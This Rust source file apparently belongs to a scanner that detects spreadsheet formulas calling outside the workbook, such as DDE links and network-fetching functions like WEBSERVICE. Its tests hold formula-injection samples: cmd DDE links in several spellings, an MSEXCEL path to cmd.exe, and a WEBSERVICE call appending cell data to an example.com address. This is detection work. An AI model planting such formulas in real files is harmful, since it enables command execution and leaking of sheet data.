//! Formulas written as text, in tables and in documents that keep them as typed: what they call outside the workbook.

use crate::knowledge::dde::is_launcher;
use crate::knowledge::formulas::{Reach, reach_of};

/// A call that leaves the workbook.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Call {
    /// `service|'topic'!item`, or the function DDE.
    Link {
        /// The program asked.
        service: String,
        /// What it is asked.
        topic: String,
    },
    /// A function that fetches or links.
    Function {
        /// Its name as written.
        name: String,
        /// What it does.
        reach: Reach,
        /// Its first argument that is an address or path, if one is spelled out.
        target: Option<String>,
        /// Whether its arguments are put together from others: data of the sheet may leave with the address.
        is_joined: bool,
    },
}

/// Characters of a formula read; Excel's longest has 8192.
pub(crate) const MAX_FORMULA: usize = 8_192;
/// Longest name before a bracket or a bar.
const MAX_NAME: usize = 300;
/// Functions that reach out looked at per formula.
const MAX_KNOWN: usize = 16;
/// Calls given per formula.
const MAX_CALLS: usize = 8;

/// The calls of a formula, which starts with the sign that makes it one. A formula that starts with `=` may have blanks
/// anywhere; one that starts with another sign is a formula only if it reads like one, since texts start so too.
pub(crate) fn calls(formula: &str) -> Vec<Call> {
    let formula = formula.get(..formula.floor_char_boundary(MAX_FORMULA)).unwrap_or(formula);
    let is_sure = formula.trim_start().starts_with('=') || formula.trim_start().starts_with("of:=");
    let first_blank = formula.find(char::is_whitespace).unwrap_or(formula.len());
    let mut found = Vec::new();
    let mut known = 0usize;
    for (at, _) in formula.match_indices(['|', '(']) {
        let (before, rest) = formula.split_at(at);
        let Some(after) = rest.get(1..) else { continue };
        let call = if rest.starts_with('|') {
            link(before, after)
        } else if !is_sure && at > first_blank {
            None
        } else if let Some((name, reach)) = function_name(before) {
            known = known.saturating_add(1);
            if known > MAX_KNOWN {
                break;
            }
            function(name, reach, after)
        } else {
            None
        };
        if let Some(call) = call
            && !found.contains(&call)
        {
            found.push(call);
        }
        if found.len() >= MAX_CALLS {
            break;
        }
    }
    found
}

/// `service|topic!item`: names are quoted with apostrophes where they hold more than letters (ECMA-376-1, 18.17.2.3).
fn link(before: &str, after: &str) -> Option<Call> {
    let before = before.trim_end();
    let service = match before.strip_suffix('\'') {
        Some(quoted) => quoted.get(quoted.rfind('\'')?.checked_add(1)?..)?,
        None => {
            let is_of_name = |c| matches!(c, '_' | '.' | '\\' | ':' | '?');
            let name = tail_of_name(before, is_of_name);
            // `=1-cmd|…` subtracts, but a program may be called `a-b`.
            if is_launcher(name) { name } else { tail_of_name(before, |c| c == '-' || is_of_name(c)).trim_matches('-') }
        }
    };
    let service = service.trim();
    if service.is_empty() || service.len() > MAX_NAME {
        return None;
    }
    // A topic without apostrophes follows the bar at once; a text has a blank there.
    let (topic, rest) = match after.trim_start().strip_prefix('\'') {
        Some(quoted) => quoted_name(quoted),
        None => {
            let end = after.get(..after.floor_char_boundary(MAX_NAME))?.find('!')?;
            let topic = after.get(..end)?;
            if topic.is_empty() || topic.contains([' ', '"', '\'', '\t', '|']) {
                return None;
            }
            (topic.to_owned(), after.get(end..)?)
        }
    };
    // Without an item Excel takes the cell for text, but for a program's name that is not worth a doubt.
    let is_whole = rest.trim_start().starts_with('!') || is_launcher(service) && !topic.is_empty();
    is_whole.then(|| Call::Link { service: service.to_owned(), topic })
}

/// A name up to its apostrophe; two stand for one.
fn quoted_name(quoted: &str) -> (String, &str) {
    let mut name = String::new();
    let mut rest = quoted;
    while let Some(end) = rest.find('\'') {
        let (part, after) = rest.split_at(end);
        name.push_str(part);
        let after = after.get(1..).unwrap_or_default();
        match after.strip_prefix('\'') {
            Some(more) => {
                name.push('\'');
                rest = more;
            }
            None => return (name, after),
        }
    }
    name.push_str(rest);
    (name, "")
}

/// The word a text ends with.
fn tail_of_name(text: &str, also: impl Fn(char) -> bool) -> &str {
    let start = text
        .char_indices()
        .rev()
        .take(MAX_NAME)
        .take_while(|(_, c)| c.is_alphanumeric() || also(*c))
        .last()
        .map_or(text.len(), |(start, _)| start);
    text.get(start..).unwrap_or_default()
}

/// The function whose bracket opens, if it is one that reaches out.
fn function_name(before: &str) -> Option<(&str, Reach)> {
    let name = tail_of_name(before.trim_end(), |c| c == '.' || c == '_');
    let plain = name.strip_prefix("_xlfn.").unwrap_or(name);
    let plain = plain.strip_prefix("COM.MICROSOFT.").unwrap_or(plain);
    Some((plain, reach_of(plain)?))
}

fn function(name: &str, reach: Reach, after: &str) -> Option<Call> {
    let texts = literals(after);
    if reach == Reach::Exchanges {
        let mut texts = texts.into_iter();
        return Some(Call::Link { service: texts.next()?, topic: texts.next().unwrap_or_default() });
    }
    let target = texts.into_iter().find(|text| text.contains(':') || text.starts_with(['\\', '/']));
    let arguments = after.split(')').next().unwrap_or_default();
    let is_joined = arguments.split('"').step_by(2).any(|outside| outside.contains('&'))
        || arguments.to_ascii_lowercase().contains("concat");
    Some(Call::Function { name: name.to_owned(), reach, target, is_joined })
}

/// Texts in quotes up to the end of the formula, at most a few.
fn literals(text: &str) -> Vec<String> {
    const MAX_LITERALS: usize = 8;
    let texts = text.split('"').skip(1).step_by(2).take(MAX_LITERALS);
    texts.map(|text| text.trim().to_owned()).filter(|text| !text.is_empty()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn linked(formula: &str) -> Option<(String, String)> {
        calls(formula).into_iter().find_map(|call| match call {
            Call::Link { service, topic } => Some((service, topic)),
            Call::Function { .. } => None,
        })
    }

    #[test]
    fn links_are_read_in_every_spelling() {
        let wanted = Some(("cmd".to_owned(), "/c none".to_owned()));
        for formula in [
            "=cmd|'/c none'!A0",
            "=1+cmd|'/c none'!A0",
            "@SUM(1+1)*cmd|'/c none'!A0",
            "-2+3+cmd| '/c none' !A0",
            "=IF(TRUE,cmd|'/c none'!A0)",
            "=cmd|'/c none",
            "=DDE(\"cmd\";\"/c none\";\"x\")",
        ] {
            assert_eq!(linked(formula), wanted, "{formula}");
        }
        let path = linked(r"=MSEXCEL|'\..\..\cmd.exe /c it''s'!''").unwrap();
        assert_eq!(path, ("MSEXCEL".to_owned(), r"\..\..\cmd.exe /c it's".to_owned()));
        assert_eq!(linked("='C:\\a b.exe'|'x'!y").unwrap().0, "C:\\a b.exe");
        assert_eq!(linked("=RSS|quotes!last").unwrap().0, "RSS");
        assert_eq!(linked("=harmless-none|'/x'!A0").unwrap().0, "harmless-none");
    }

    #[test]
    fn texts_with_bars_are_no_links() {
        for text in ["-a | b! c", "@user | note!", "=A1&\"a|b\"", "-5|6", "=OR(A1|B1)"] {
            assert_eq!(linked(text), None, "{text}");
        }
    }

    #[test]
    fn functions_are_told_from_words() {
        let function = |formula: &str| calls(formula).into_iter().next();
        let wanted = Call::Function {
            name: "WEBSERVICE".to_owned(),
            reach: Reach::Fetches,
            target: Some("http://example.com/".to_owned()),
            is_joined: true,
        };
        assert_eq!(function("=_xlfn.WEBSERVICE (\"http://example.com/\"&A1)"), Some(wanted));
        assert_eq!(function("- IMAGE (1)"), None);
        assert_eq!(function("=SUM(A1)"), None);
    }
}
